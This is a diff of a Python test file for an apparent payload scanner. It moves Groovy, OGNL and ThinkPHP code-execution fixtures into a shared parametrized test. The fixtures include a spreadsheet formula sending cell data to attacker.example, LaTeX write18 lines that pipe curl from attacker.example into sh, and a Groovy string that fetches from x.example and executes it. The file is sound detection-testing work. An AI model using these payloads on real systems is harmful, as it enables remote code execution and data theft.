@@ -48,6 +48,13 @@ CTX = ScanContext()
         ('"=IMPORTXML(CONCAT(""https://attacker.example/?v="", B3), ""//a"")"', "HG-CODE-008"),
         ("\\immediate\\write18{curl https://attacker.example/s | sh}", "HG-CODE-009"),
         ("\\write18{id > /tmp/o}", "HG-CODE-009"),
+        # Groovy runs a string as a command line (Elasticsearch scripts, Jenkins' script console)
+        ("def cmd = 'whoami'; def out = cmd.execute().text; out", "HG-CODE-003"),
+        ('new Object(){ { "curl http://x.example/s".execute() } }', "HG-CODE-003"),
+        # OGNL reaching the servlet objects through the action context, the class spelled in pieces
+        ("${#r=#context.get('co'+'m.open'+'symphony.'+'xwo'+'rk2.dispatcher.HttpServletResponse')}", "HG-CODE-003"),
+        # ThinkPHP 5's route into its own namespace, which calls any method it names
+        ("/home/\\think\\Container/invokefunction", "HG-CODE-006"),
     ],
 )
 def test_rules_fire_on_real_payloads(payload: str, rule_id: str) -> None:
@@ -176,23 +183,6 @@ def test_ordinary_cells_are_no_formula_injection(value: str) -> None:
     # Phone numbers, negative amounts, handles and plain sums begin with a formula sign; only a DDE
     # call (app|'topic'!) or a formula that reaches the network is reported.
     assert code.scan(value, CTX) is None
-
-
-@pytest.mark.parametrize(
-    ("payload", "rule_id"),
-    [
-        # Groovy runs a string as a command line (Elasticsearch scripts, Jenkins' script console)
-        ("def cmd = 'whoami'; def out = cmd.execute().text; out", "HG-CODE-003"),
-        ('new Object(){ { "curl http://x.example/s".execute() } }', "HG-CODE-003"),
-        # OGNL reaching the servlet objects through the action context
-        ("${#r=#context.get('co'+'m.open'+'symphony.'+'xwo'+'rk2.dispatcher.HttpServletResponse')}", "HG-CODE-003"),
-        # ThinkPHP 5's route into its own namespace, which calls any method it names
-        ("/home/\\think\\Container/invokefunction", "HG-CODE-006"),
-    ],
-)
-def test_code_runners_of_published_exploits_are_reported(payload: str, rule_id: str) -> None:
-    found = code.scan(payload, CTX)
-    assert found is not None and found.rule_id == rule_id, found
 
 
 @pytest.mark.parametrize(
